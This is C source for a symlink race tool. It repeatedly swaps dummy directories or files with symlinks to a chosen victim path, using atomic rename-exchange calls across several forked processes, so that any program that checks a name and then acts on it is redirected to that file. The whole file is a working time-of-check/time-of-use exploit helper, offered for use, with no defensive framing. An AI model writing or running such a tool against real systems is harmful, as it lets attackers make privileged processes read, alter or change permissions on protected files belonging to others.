/* Exchanges names for links to a file of the host's, as fast as it can, for as long as it lives:
 * whoever looks at a name and then acts on it is led to that file.
 *
 *   swap VICTIM [folder|file] [PAIRS] [PROCESSES]
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { EXCHANGE = 2 };

static void prepare(int i, const char *victim, int folder) {
    char name[32], inner[48], link[32];
    snprintf(name, sizeof name, "d%d", i);
    snprintf(link, sizeof link, "l%d", i);
    if (folder) {
        mkdir(name, 0700);
        snprintf(inner, sizeof inner, "d%d/x", i);
        mkdir(inner, 0700);
        snprintf(inner, sizeof inner, "d%d/x/y", i);
        mkdir(inner, 0700);
    } else {
        int fd = open(name, O_CREAT | O_WRONLY, 0200);
        if (fd >= 0)
            close(fd);
    }
    if (symlink(victim, link) < 0)
        return;
}

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    int folder = argc < 3 || strcmp(argv[2], "file") != 0;
    int pairs = argc > 3 ? atoi(argv[3]) : 32;
    for (int i = 0; i < pairs; i++)
        prepare(i, argv[1], folder);
    for (int more = argc > 4 ? atoi(argv[4]) : 1; more > 1; more--)
        if (fork() == 0)
            break;
    if (write(1, "ready\n", 6) != 6)
        return 1;
    for (unsigned round = 0;; round++)
        for (int i = 0; i < pairs; i++) {
            char name[32], link[32];
            snprintf(name, sizeof name, "d%d", i);
            snprintf(link, sizeof link, "l%d", i);
            if (syscall(SYS_renameat2, AT_FDCWD, name, AT_FDCWD, link, EXCHANGE) < 0)
                prepare(i, argv[1], folder);
            if (chmod(name, folder ? 0500 : 0200) < 0) /* closed again, if it is ours just now */
                continue;
        }
}
